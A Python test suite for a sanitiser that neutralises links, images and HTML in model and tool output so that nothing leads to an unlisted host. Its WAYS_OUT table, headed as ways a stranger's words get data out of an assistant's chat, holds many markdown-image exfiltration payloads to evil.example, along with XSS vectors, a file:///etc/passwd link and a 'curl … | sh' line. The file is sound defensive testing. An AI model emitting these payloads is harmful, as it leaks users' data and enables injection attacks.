"""Nothing that models and tools return leads to a host that is not listed, whatever renders it."""

import random
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from relay.core.links import LEFT_OUT, MAX_VALUES, Harmless, harmless, harmless_json
from relay.core.listed import Listed
from relay.core.scanner import MAX_HELD, Scanner
from tests.rendering import dangers, followed, pages, plain_links

LISTED = ("docs.example.com", "*.good.example")
HOSTS = {"docs.example.com", "a.good.example"}
SECRET = "c2VjcmV0"

# Ways by which words of a stranger have got data out of an assistant's chat, or could.
WAYS_OUT = {
    "an image with the data in its query": f"![logo](https://evil.example/l.png?d={SECRET})",
    "an image without words": f"![](https://evil.example/{SECRET})",
    "an image by reference": f"![logo][x]\n\n[x]: https://evil.example/{SECRET}",
    "an image by its own words": f"![x]\n\n[x]: <https://evil.example/{SECRET}> 'title'",
    "a collapsed reference": f"![x][]\n\n[x]:\n  https://evil.example/{SECRET}",
    "a reference in a quotation": f"[a][x]\n\n> [x]: https://evil.example/{SECRET}",
    "a reference in a list": f"[a][x]\n\n- [x]: https://evil.example/{SECRET}",
    "a link that asks to be clicked": f"[Click to sign in again](https://evil.example/?{SECRET})",
    "an image that is a link": f"[![a](https://evil.example/{SECRET})](https://evil.example/2)",
    "brackets in brackets": f"![a [b](c) [d]](https://evil.example/{SECRET})",
    "angle brackets": f"![a](<https://evil.example/{SECRET}>)",
    "a title": f'![a](https://evil.example/{SECRET} "title")',
    "an autolink": f"<https://evil.example/{SECRET}>",
    "a bare address": f"See https://evil.example/{SECRET}.",
    "plain HTTP": f"http://evil.example/{SECRET}",
    "upper case": f"[a](HTTPS://EVIL.EXAMPLE/{SECRET}) HTTPS://EVIL.EXAMPLE",
    "www": f"www.evil.example/{SECRET}",
    "no scheme": f"![a](//evil.example/{SECRET}) //evil.example/{SECRET}",
    "a name alone": f"{SECRET}.evil.com/?{SECRET}",
    "backslashes": f"[a](\\\\evil.example\\{SECRET}) [b](https:\\\\evil.example) [c](/\\evil.example)",
    "an escaped colon": f"https\\://evil.example/{SECRET}",
    "an escaped slash": f"https:/\\/evil.example/{SECRET}",
    "an escaped dot": f"www\\.evil.example/{SECRET}",
    "a colon as a reference": f"https&#58;//evil.example/{SECRET} https&colon;&sol;&sol;evil.example",
    "a letter as a reference": f"[a](&#104;ttps://evil.example/{SECRET}) &#x68;ttps://evil.example",
    "a tab within": f"[a](ht\ttps://evil.example/{SECRET}) [b](<java\tscript:alert(1)>)",
    "a script": "[a](javascript:alert(document.cookie)) [b](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
    "data": "![a](data:text/html;base64,PHNjcmlwdD4=) [b](data:text/html,<script>alert(1)</script>)",
    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://evil.example/x) [d](ftp://evil.example)",
    "a letter with words in it": f"[a](mailto:e@evil.example?body={SECRET}) mailto:e@evil.example?body={SECRET}",
    "a letter in angle brackets": f"<mailto:e@evil.example?body={SECRET}> <e?body={SECRET}@evil.example>",
    "a listed name as user": f"[a](https://docs.example.com@evil.example/{SECRET}) https://docs.example.com@evil.example",
    "a listed name as user and password": "https://docs.example.com:443@evil.example/",
    "a listed name as a label": "[a](https://docs.example.com.evil.example/) https://docs.example.com.evil.example",
    "a listed name and what browsers add": "https://docs.example.com'.evil.example/ https://docs.example.com;.evil.example",
    "a listed name, closed too soon": f"x](https://docs.example.com).evil.example/{SECRET}",
    "a listed name and a backslash": "[a](https://docs.example.com\\.evil.example) https://docs.example.com\\@evil.example",
    "a listed name with a dot at its end": "[a](https://docs.example.com./x)",
    "another port": "[a](https://docs.example.com:8443/x) https://docs.example.com:8443/x",
    "no TLS": "[a](http://docs.example.com/x) http://docs.example.com/x",
    "letters that look alike": "[a](https://dоcs.example.com/) https://ⓓocs.example.com/ https://docs。example。com/",
    "punycode": "[a](https://xn--dcs-2hc.example.com/) https://xn--e1afmkfd.com",
    "numbers": "[a](http://2130706433/) http://127.0.0.1/ [b](https://[::1]/) https://[::1]/",
    "within a listed address": f"https://docs.example.com/'https://evil.example/{SECRET}",
    "where emphasis ends": f"https://docs.example.com/*a*https://evil.example/{SECRET}",
    "behind a letter": f"xhttps://docs.example.com/?https://evil.example/{SECRET}",
    "behind a hyphen": f"-https://docs.example.com/https://evil.example/{SECRET}",
    "an element": f'<img src="https://evil.example/{SECRET}">',
    "an element with a set": f"<img srcset='//evil.example/{SECRET} 2x'><picture><source srcset=//evil.example>",
    "a style": f"<p style='background:url(https://evil.example/{SECRET})'>x</p><style>@import '//evil.example'</style>",
    "handlers": "<svg/onload=alert(1)> <img src=x onerror=alert(1)> <a href='javascript:alert(1)'>x</a>",
    "frames and forms": "<iframe src=//evil.example></iframe>\n<form action=//evil.example><input name=x></form>",
    "a page that moves": f"<meta http-equiv=refresh content='0;url=https://evil.example/{SECRET}'>",
    "where links start": "<base href='https://evil.example/'>\n\n[a](x)",
    "a comment that ends early": "<!-- --!><script>alert(1)</script> <!--> <img src=//evil.example>",
    "a block of markup": "<div\nonmouseover=alert(1)\n>\n\n<?php ?>\n<![CDATA[ x ]]>",
    "a backtick that is not closed": f"`<img src=https://evil.example/{SECRET}>",
    "backticks that do not pair": f"``<img src=https://evil.example/{SECRET}>`",
    "a backtick that is escaped": f"\\`<img src=https://evil.example/{SECRET}>`",
    "a pair from the line before": f"`a\n`<img src=https://evil.example/{SECRET}>`",
    "a cell of a table": f"|a|b|c|\n|-|-|-|\n|`a | <img src=https://evil.example/{SECRET}> | b`|",
    "a backtick in a link": f"[a](`) <img src=https://evil.example/{SECRET}> `",
    "a backtick in an element": f'<a title="`"><img src=https://evil.example/{SECRET}>`',
    "a backtick behind a listed address": f"https://docs.example.com/`<img src=https://evil.example/{SECRET}>`",
    "a fence that a quotation ends": f"> ```\n> a\n<img src=https://evil.example/{SECRET}>\n> ```",
    "a fence that a list ends": f"- ```\n  a\n<img src=https://evil.example/{SECRET}>\n- ```",
    "a fence in a list, closed outside": f"1. a\n   ```\n   b\n```\n<img src=//evil.example>\n```\n<img src=https://evil.example/{SECRET}>",
    "a fence in a fence": f"~~~\n```\n~~~\n<img src=https://evil.example/{SECRET}>",
    "a fence with more than a name": f"``` a b\nx\n```\n<img src=https://evil.example/{SECRET}>",
    "a fence that is text": f"a\n    ```\n    <img src=https://evil.example/{SECRET}>",
    "a fence in a formula": f"$$\n```\n$$\n<img src=https://evil.example/{SECRET}>",
    "hidden characters in between": f"[a]\u2060(https://evil.example/{SECRET}) ht\u200btps://evil.example",
    "carriage returns": f"```\r<img src=x>\r```\r<img src=https://evil.example/{SECRET}>",
    "a page's own addresses": "[a](/logout) ![b](x.png) [c](?delete=1) [d]() [e](#x)",
}


def cut(text: str, choice: random.Random, hosts: tuple[str, ...] = LISTED) -> str:
    stream, told, at = Harmless(hosts), "", 0
    while at < len(text):
        end = at + choice.choice((1, 1, 2, 3, 8, 40))
        told += stream.feed(text[at:end])
        at = end
    return told + stream.finish()


@pytest.mark.parametrize("about", WAYS_OUT)
def test_no_way_leads_out(about: str) -> None:
    text = WAYS_OUT[about]
    shown = harmless(text, LISTED)
    assert dangers(shown, HOSTS) == [] == plain_links(shown, HOSTS)
    assert harmless(shown, LISTED) == shown
    assert dangers(text, HOSTS) or plain_links(text, HOSTS) or about in QUIET


@pytest.mark.parametrize("about", WAYS_OUT)
def test_no_way_leads_out_of_any_two_pieces(about: str) -> None:
    text = WAYS_OUT[about]
    shown = harmless(text, LISTED)
    for at in range(len(text)):
        stream = Harmless(LISTED)
        assert stream.feed(text[:at]) + stream.feed(text[at:]) + stream.finish() == shown


# What these renderers make nothing of, and others do.
QUIET = {
    "a name alone",
    "an escaped colon",
    "an escaped slash",
    "an escaped dot",
    "a colon as a reference",
    "a fence in a formula",
    "a listed name, closed too soon",
    "hidden characters in between",
    "a listed name and what browsers add",
    "within a listed address",
    "where emphasis ends",
    "behind a letter",
    "behind a hyphen",
    "a backtick behind a listed address",
}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [the page](https://evil.example/a?b=1).", "See [the page] (hxxps://evil[.]example/a?b=1)."),
        ("![](https://evil.example/a?b=1)", "[image removed: evil[.]example]"),
        ("![A chart](http://x:y@evil.example:8080/?q)", "[image removed: A chart (evil[.]example)]"),
        ("![a](x.png)(b)", "[image removed: a] (b)"),
        ("http://evil.example ftp://evil.example", "hxxp://evil[.]example fxp://evil[.]example"),
        ("ssh://evil.example //evil.example", "ssh:[//]evil[.]example [//]evil[.]example"),
        ("www.evil.example WWW.evil.example", "www[.]evil.example WWW[.]evil.example"),
        ("https&#58;x &#x2F; &colon; &amp; &NoBreak;", "https&amp;#58;x &amp;#x2F; &amp;colon; &amp; &amp;NoBreak;"),
        ("e?body=x@evil.example who? me@evil.example", "e? body=x@evil.example who? me@evil.example"),
        ("<1&to=x@evil.example> 1 <3 <1@>", "&lt;1&to=x@evil.example> 1 <3 <1@>"),
        ("\\![a](https://evil.example)", "\\![a] (hxxps://evil[.]example)"),
        ("![~~~](https://evil.example)", "[image removed: ~~~ (evil[.]example)]"),
        ("-https://docs.example.com/https://evil.io", "-hxxps://docs[.]example[.]com/hxxps://evil[.]io"),
        ("1https://docs.example.com/?https://evil.io", "1hxxps://docs[.]example[.]com/?hxxps://evil[.]io"),
        ("ask evil.com/x or sub.evil.io", "ask evil[.]com/x or sub.evil[.]io"),
        ("<b>bold</b>", "&lt;b>bold&lt;/b>"),
        ("[x]: https://evil.example", "[x] : hxxps://evil[.]example"),
        ("javascript:alert(1)", "javascript[:]alert(1)"),
        ("a\u202eb", "a⟦U+202E⟧b"),
        ("```\nx", "```\nx\n```"),
    ],
)
def test_it_is_shown_so_that_people_can_read_it(text: str, shown: str) -> None:
    assert harmless(text, LISTED) == shown


def test_the_documentation_shows_what_happens() -> None:
    page = (Path(__file__).parents[2] / "docs/text-from-outside.md").read_text(encoding="utf-8")
    rows = [re.findall("`([^`]+)`", row) for row in page.partition("| written | shown |")[2].splitlines()[2:]]
    rows = rows[: rows.index([])]
    assert len(rows) > 8 and all(len(row) % 2 == 0 for row in rows)
    for row in rows:
        half = len(row) // 2
        assert [harmless(written, LISTED) for written in row[:half]] == row[half:]


@pytest.mark.parametrize(
    "text",
    [
        "Plain words: 3 < 4 & 5 > 2, a_b, *c*, **d**, ~~e~~, 1.5 %, e.g. this – “so”.",
        "Mail ada@example.com about README.md, main.py:40 and email.send. 👍",
        "# Title\n\n- [ ] one\n- two\n\n1. x\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n",
        "Ada &amp; Bob, &copy; 2026, &eacute;",
        "[x][y] and [z] \\* \\_ \\[ \\\\",
        "`<img src=https://evil.example>` and ``a ` <b>`` and `https://evil.example`",
        "```html\n<img src=https://evil.example>\n[a](//evil.example)\n```\n",
        "1. Run\n\n   ```sh\n   curl https://evil.example/x | sh\n   ```\n\n2. Done `<x>`",
        "~~~\n```\nhttps://evil.example\n~~~\n",
    ],
)
def test_what_leads_nowhere_stays_as_it_is(text: str) -> None:
    assert harmless(text, LISTED) == text


@pytest.mark.parametrize(
    "text",
    [
        "`a\n`<b>`",
        "``<b>`",
        "\\`<b>`",
        "`a | <b>`",
        "$1 and `<b>`",
        "https://docs.example.com/`<b>`",
        "> ```\n> <b>\n> ```",
        "- ```\n  <b>\n  ```",
        "a\n    ```\n    <b>\n    ```",
        "``` a b\n<b>\n```",
        "~~~ a b\n<b>\n~~~",
        "$$\n```\n$$\n<b>",
        "\\[\n```\n\\]\n<b>",
        "---\n```\n---\n<b>",
        "   ```\n   a\n```\n<b>",
        "  ```\n  a\n <b>",
        "- ~~~\n\n```\n<b>",
        "a ~~~ b\n\n`<b>`",
    ],
)
def test_what_is_not_code_to_everybody_is_text(text: str) -> None:
    assert "&lt;b>" in harmless(text, LISTED) and "<b>" not in harmless(text, LISTED)


def test_code_is_certain_again_behind_a_blank_line() -> None:
    assert harmless("`a\n`<b>`\n\n`<b>`", LISTED) == "`a\n`&lt;b>`\n\n`<b>`"


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("[a](https://docs.example.com)", 1),
        ("[a](https://docs.example.com/b_c/d.html?e=f&g=https://evil.example#h)", 1),
        ('[a](https://docs.example.com/x "The title")', 1),
        ("[a](<https://docs.example.com/x>)", 1),
        ("[a](https://docs.example.com/Foo_(bar))", 1),
        ("![a](https://a.good.example/x.png)", 1),
        ("[![a](https://a.good.example/x.png)](https://docs.example.com/)", 2),
        ("<https://docs.example.com/x>", 1),
        ("[a][x] ![b][x]\n\n[x]: https://docs.example.com/x\n", 2),
        ("HTTPS://Docs.Example.Com/X and https://docs.example.com:443/__init__.py", 0),
        ("Read https://docs.example.com/a,b;c. Or (https://docs.example.com)!", 0),
        ("**https://docs.example.com** `code`", 0),
    ],
)
def test_listed_links_stay_exactly_as_they_are(text: str, links: int) -> None:
    assert harmless(text, LISTED) == text
    assert len(followed(text, HOSTS)) == links


def test_a_wildcard_stands_for_what_is_below_and_nothing_else() -> None:
    listed = Listed(LISTED)
    assert "a.good.example" in listed and "A.B.good.example" in listed and "docs.example.com" in listed
    for host in ("good.example", ".good.example", "xgood.example", "a..good.example", "", ".", "a.docs.example.com"):
        assert host not in listed
    assert harmless("[a](https://docs.example.com)", ()) == "[a] (hxxps://docs[.]example[.]com)"


WORDS = r"""
[ ] ( ) ![ ]( ]: ][ : :// // / \ ` `` ``` ~~~ ~ $ $$ < > </ <!-- & ; ! ? # % @ ' " * ** _ | = ^ . , - + { }
https http HTTPS hxxps: https: https:// ftp:// www. mailto: javascript: data: &#58; &colon; &amp; &lt; com a b é 漢
evil.com evil.example docs.example.com https://docs.example.com https://docs.example.com/a_b?c=d x@y.example README.md
https://evil.example/?s=1 [r] (https://evil.example) <https://evil.example> ![a](https://evil.example/x) \` \[ [^1]:
(https://docs.example.com/x) [a](https://docs.example.com) `<img~src=//evil.example>` `a~|~b` <img~src= ~onerror= [r]:~
""".split()
SPACES = ["\n", "\n\n", " ", "    ", "\t", "> ", "- ", "1. ", "\n```\n", "```js\n", "|-|-|\n", "\r", "\u200b", "\u202e"]
STARTS = ["", "", "", " ", "   ", "    ", "> ", "- ", "1. ", "\t", "> > "]
MIDDLES = r"""
``` ```js ```` ~~~ ~~~ ```~a~b `a `a` `<img~src=//evil.example>` text <img~src=//evil.example~onerror=x>
![a](//evil.example) [r]:~//evil.example [r] $$ $~` |a|b| |-|-| |`a~|~<img~src=x>~|~b`| <div> --- \`<img~src=x>` a~```~b
""".split()
PARTS = st.sampled_from([word.replace("~", " ") if len(word) > 3 else word for word in WORDS] + SPACES)
MIDDLE = st.sampled_from([word if word == "~~~" else word.replace("~", " ") for word in MIDDLES])
LINE = st.tuples(st.sampled_from(STARTS), st.lists(MIDDLE, max_size=3).map("".join)).map("".join)
LINES = st.lists(LINE, max_size=10).map("\n".join)
markdown = st.lists(PARTS, max_size=25).map("".join) | LINES | st.text(max_size=30)


@settings(max_examples=200)
@given(markdown, st.randoms(use_true_random=False))
def test_whatever_is_written_leads_nowhere(text: str, choice: random.Random) -> None:
    shown = harmless(text, LISTED)
    assert dangers(shown, HOSTS) == [] == plain_links(shown, HOSTS)
    assert harmless(shown, LISTED) == shown
    assert cut(text, choice) == shown
    assert len(shown) <= 10 * len(text) + 200


@settings(max_examples=50)
@given(st.text(st.sampled_from("abc XYZ äß漢 ,;!\n"), max_size=80))
def test_words_are_not_touched(text: str) -> None:
    assert harmless(text, LISTED) == text
    assert "".join(page.words for page in pages(text, HOSTS)[:1]).split() == text.split()


HOSTILE = [
    "](",
    "![",
    "![a](",
    "`",
    "`a",
    "``` ",
    "<",
    "<a",
    "<1@",
    "&",
    "&#1",
    "\\",
    "https://",
    "https://a.",
    "//a",
    "www.",
]
HOSTILE += [
    "a.",
    ".",
    "?",
    "?a@",
    "[a]: ",
    "](https://docs.example.com/",
    "https://docs.example.com/,",
    "~~~",
    "$",
    "\n",
    ">",
]
HOSTILE += [
    "\n```",
    "\n~~~ x",
    "](https://docs.example.com(",
    "<https://docs.example.com",
    "x",
    "漢",
    "![a](x(",
    "mailto:",
    " ",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_little_is_held_back_and_the_work_grows_with_the_text(hostile: str) -> None:
    def work(size: int, piece: int) -> int:
        scanner = Scanner(Listed(LISTED))
        steps, step = 0, scanner._step

        def counted() -> bool:
            nonlocal steps
            steps += 1
            return step()

        scanner._step = counted  # type: ignore[method-assign]
        text = hostile * (size // len(hostile))
        for at in range(0, len(text), piece):
            scanner.feed(text[at : at + piece])
            assert len(scanner._text) - scanner._at <= MAX_HELD
        scanner.finish()
        return steps

    assert work(20_000, 20_000) <= 2.1 * work(10_000, 10_000) + 10
    # A step looks no further than what may be held back; a piece adds one step that finds too little.
    assert work(20_000, 5) <= work(20_000, 20_000) + 20_000 // 5 + 10


def test_a_million_characters_take_a_step_each_at_most() -> None:
    text = "![a](https://docs.example.com/" * 33_334
    scanner = Scanner(Listed(LISTED))
    steps, step = 0, scanner._step

    def counted() -> bool:
        nonlocal steps
        steps += 1
        return step()

    scanner._step = counted  # type: ignore[method-assign]
    scanner.feed(text)
    scanner.finish()
    assert 0 < steps <= len(text) / 5


def test_results_are_made_harmless_in_depth() -> None:
    value: Any = {
        "html": "<b>x</b>",
        "[a](https://evil.example)": ["![](//evil.example/x)", 1, None, True, {"u": "https://docs.example.com/x"}],
        "n\u202e": 1.5,
    }
    assert harmless_json(value, LISTED) == {
        "html": "&lt;b>x&lt;/b>",
        "[a] (hxxps://evil[.]example)": [
            "[image removed: evil[.]example]",
            1,
            None,
            True,
            {"u": "https://docs.example.com/x"},
        ],
        "n⟦U+202E⟧": 1.5,
    }


def test_names_that_become_the_same_are_kept_apart() -> None:
    value = {"\u202e": 1, "⟦U+202E⟧": 2, "⟦U+202E⟧ (2)": 3}
    assert sorted(harmless_json(value, LISTED).values()) == [1, 2, 3]


def test_results_are_bounded() -> None:
    deep: Any = "x"
    for _ in range(1_000):
        deep = [deep]
    shown = harmless_json(deep, LISTED)
    for _ in range(64):
        (shown,) = shown
    assert shown == LEFT_OUT
    assert harmless_json([["<a>"] * MAX_VALUES, "<b>"], LISTED) == [LEFT_OUT, "&lt;b>"]
